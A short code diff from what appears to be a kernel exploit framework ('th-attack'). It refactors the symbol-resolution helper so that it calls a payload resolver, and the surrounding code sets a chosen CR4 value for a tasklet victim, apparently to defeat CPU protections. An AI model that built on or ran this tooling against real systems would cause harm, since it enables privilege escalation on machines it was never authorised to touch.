@@ -18,7 +18,6 @@
 #include <string.h>
 
 #include "slab.h"
-#include "sysmap.h"
 #include "tasklet_victim.h"
 
 /*
@@ -149,16 +148,10 @@ static void cve_func_data(struct tl_ctx *c)
 	th_intent.value = TH_CR4_CHOSEN;
 }
 
+/* payloads.c's th_payload_resolve(), into the tasklet's plan. */
 static int resolve(struct tl_ctx *c, const char *const *names, size_t n)
 {
-	for (size_t i = 0; i < n; i++)
-		if (!th_sysmap_lookup(names[i], &c->resolved)) {
-			snprintf(c->resolved_name, sizeof(c->resolved_name), "%s", names[i]);
-			return 0;
-		}
-	th_emit("TH-NOTE: cannot resolve %s in the image's symbol table", names[0]);
-	fprintf(stderr, "th-attack: cannot resolve %s in the image's symbol table\n", names[0]);
-	return -1;
+	return th_payload_resolve(names, n, &c->resolved, c->resolved_name, sizeof(c->resolved_name));
 }
 
 /* Before the victim exists: what must be there first. Return 0 or -1. */
